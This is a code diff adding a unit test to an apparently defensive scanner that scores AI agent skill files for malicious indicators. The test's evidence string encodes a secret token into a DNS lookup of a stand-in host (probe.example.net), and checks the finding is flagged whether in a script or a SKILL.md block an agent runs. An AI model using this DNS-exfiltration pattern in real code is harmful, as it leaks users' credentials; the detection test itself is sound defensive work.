@@ -3,6 +3,7 @@ import type { Finding, PatternId } from '../../../src/core/types.js';
 import { decide, type VerdictModel } from '../../../src/score/verdict.js';
 import {
   DECISIVE_INDICATORS,
+  DNS_NAME_FLOW,
   skillFeatures,
   UNNAMED_HOST_FLOW,
 } from '../../../src/score/verdict-features.js';
@@ -91,6 +92,20 @@ describe('decisive indicators', () => {
     expect(decide([named], timid).decisive).toBeUndefined();
     expect(decide([{ ...flow, file: 'docs/howto.md' }], timid).decisive).toBeUndefined();
     expect(decide([{ ...flow, confidence: 0.35 }], timid).decisive).toBeUndefined();
+  });
+
+  it('makes a secret sent inside a DNS name risky, from a script or a block SKILL.md has the agent run', () => {
+    const tunnel = finding('E2', 0.85, {
+      rule: 'code.env-harvest',
+      file: 'scripts/check.py',
+      evidence: 'socket.gethostbyname(f"{token}.probe.example.net")',
+      rationale: `a secret-named variable (line 3) is ${DNS_NAME_FLOW} under probe.example.net`,
+    });
+    expect(decide([tunnel], timid).decisive).toBe('secret-in-dns-name');
+    expect(decide([{ ...tunnel, file: 'SKILL.md' }], timid).decisive).toBe('secret-in-dns-name');
+    // A block framed as an example falls below the bar; a phrase rule's words decide nothing here.
+    expect(decide([{ ...tunnel, confidence: 0.45 }], timid).decisive).toBeUndefined();
+    expect(decide([{ ...tunnel, rule: 'md.exfiltration-instruction' }], timid).decisive).toBeUndefined();
   });
 
   it('makes a use of known campaign infrastructure risky on its own, whatever the line says', () => {
